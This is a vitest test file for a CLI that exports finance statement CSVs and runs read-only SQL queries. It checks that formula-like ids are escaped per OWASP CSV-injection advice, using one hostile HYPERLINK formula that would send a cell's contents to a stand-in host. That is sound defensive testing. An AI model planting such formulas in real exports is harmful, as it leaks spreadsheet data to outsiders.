/**
 * The CSV that finance opens in a spreadsheet: ids are whatever a player sent, so a cell that a
 * spreadsheet would evaluate as a formula is written as text (OWASP, CSV injection).
 */
import { describe, expect, it } from 'vitest';
import { csvText } from '../../cli/csv-text.js';
import { statementCsv, statementDocument } from '../../cli/commands/statement-document.js';

describe('CSV', () => {
  it('writes ids a spreadsheet would take for formulas as text, quotes what RFC 4180 says, and numbers as they are', () => {
    const hostile = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")';
    const csv = statementCsv(statementDocument({
      month: '2026-11', tz: 'UTC', source: 'wh', codeVersion: 'pingroll 0.1.0', closed: null, versions: [], completeness: null,
      rows: [{ series_id: hostile, minutes_watched: 10, share_of_month: 0.5, pings: 12, days_watched: 1 },
        { series_id: '@SUM(A1:A9)', minutes_watched: 10, share_of_month: 0.5, pings: 11, days_watched: 1 }],
      adjustments: [{ closed_month: '2026-10-01', tz: 'UTC', day: '2026-10-15', series_id: '+1', pings: 2, minutes_watched: 1 }],
    }));
    const lines = csv.split('\r\n');
    expect(lines.filter((l) => l.startsWith('statement,'))).toEqual([
      `statement,,,"'=HYPERLINK(""http://example.invalid/?leak=""&A1,""click"")",10,50.0000,12,1,,,,,,,,,`,
      `statement,,,'@SUM(A1:A9),10,50.0000,11,1,,,,,,,,,`]);
    expect(lines.filter((l) => l.startsWith('adjustment,'))).toEqual([`adjustment,,,'+1,1,,2,,2026-10,UTC,2026-10-15,,,,,,`]);
    // Every line has the header's columns.
    expect(new Set(lines.slice(0, -1).map((l) => l.replace(/"[^"]*"/g, '').split(',').length))).toEqual(new Set([17]));
    for (const first of ['+1', '-1', '\tx']) expect(csvText(['a'], [[first]]).split('\r\n')[1]).toBe(first === '\tx' ? "'\tx" : `'${first}`);
    // Negative numbers stay numbers; plain ids stay as sent.
    expect(csvText(['a', 'b'], [[-5, 's1']]).split('\r\n')[1]).toBe('-5,s1');
  });
});

describe('pingroll sql', () => {
  it('answers a query from the embedded warehouse, read-only, as a table, CSV or JSON', async () => {
    const { dirConfig, runDay, tempRoots, writeObjects } = await import('../support/job-fixture.js');
    const { generateSample } = await import('../../tools/sample/access-log-generator.js');
    const { memoryLog } = await import('../../lib/log.js');
    const { sqlCommand } = await import('../../cli/commands/sql.js');
    const { join } = await import('node:path');
    const r = tempRoots()();
    await writeObjects(join(r, 'logs'), generateSample({ date: '2026-11-01', sessions: 20, seed: 3 }).objects);
    const config = dirConfig(r);
    const day = await runDay(config, { day: '2026-11-01', log: memoryLog() });
    const sql = "SELECT day, sum(pings) AS pings FROM daily_episode_stats WHERE day = DATE '2026-11-01' GROUP BY day";
    expect(await sqlCommand(config, sql)).toMatch(new RegExp(`^day\\s+pings\\n-+\\s+-+\\n2026-11-01\\s+${day.pings.toLocaleString('en')}\\n\\(1 row\\)\\n$`));
    expect(await sqlCommand(config, sql, 'csv')).toBe(`day,pings\r\n2026-11-01,${day.pings}\r\n`);
    expect(JSON.parse(await sqlCommand(config, sql, 'json'))).toEqual([{ day: '2026-11-01', pings: day.pings }]);
    // Read-only: a statement that writes is refused by the warehouse.
    await expect(sqlCommand(config, 'DELETE FROM daily_runs')).rejects.toThrow(/read-only|read only/i);
  });
});
